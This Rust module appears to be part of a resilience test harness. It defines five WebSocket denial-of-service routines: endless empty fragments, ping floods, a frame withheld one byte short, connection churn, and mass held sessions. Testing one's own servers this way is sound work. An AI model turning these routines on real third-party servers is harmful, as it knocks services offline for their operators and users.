//! Attacks by WebSocket itself, and by connections that are dropped.

use tokio::io::AsyncWriteExt as _;

use tokio::time::sleep;

use super::{Attacker, Outcome, PATIENCE, PAUSE, drain, repeat};

/// A message in empty fragments without end.
pub(super) async fn fragments(attacker: &mut Attacker) -> Outcome<()> {
    let mut session = attacker.connected().await?;
    session.stream.write_all(&[0x01, 0x80, 0, 0, 0, 0]).await?;
    let empty: Vec<u8> = [0x00, 0x80, 0, 0, 0, 0].repeat(500);
    repeat(session.stream, &empty, PAUSE).await
}

/// Pings as fast as the socket accepts them.
pub(super) async fn pings(attacker: &mut Attacker) -> Outcome<()> {
    let session = attacker.connected().await?;
    let mut ping = vec![0x89, 0x80 | 125, 0, 0, 0, 0];
    ping.resize(6 + 125, b'x');
    repeat(session.stream, &ping.repeat(20), PAUSE).await
}

/// A message of 60,000 bytes, all but the last one.
pub(super) async fn unfinished(attacker: &mut Attacker) -> Outcome<()> {
    let mut stream = attacker.upgraded().await?;
    let mut bytes = vec![0x82, 0x80 | 126];
    bytes.extend_from_slice(&60_000_u16.to_be_bytes());
    bytes.resize(4 + 4 + 59_999, 0);
    stream.write_all(&bytes).await?;
    drain(stream).await
}

/// Connects and drops the connection.
pub(super) async fn coming_and_going(attacker: &mut Attacker) -> Outcome<()> {
    drop(attacker.connected().await?);
    Ok(())
}

/// A session that is held until it is closed. Thousands try at once, so that each of them waits long
/// before they try again.
pub(super) async fn held(attacker: &mut Attacker) -> Outcome<()> {
    let outcome = match attacker.connected().await {
        Ok(session) => drain(session.stream).await,
        Err(refused) => Err(refused),
    };
    sleep(PATIENCE / 2).await;
    outcome
}
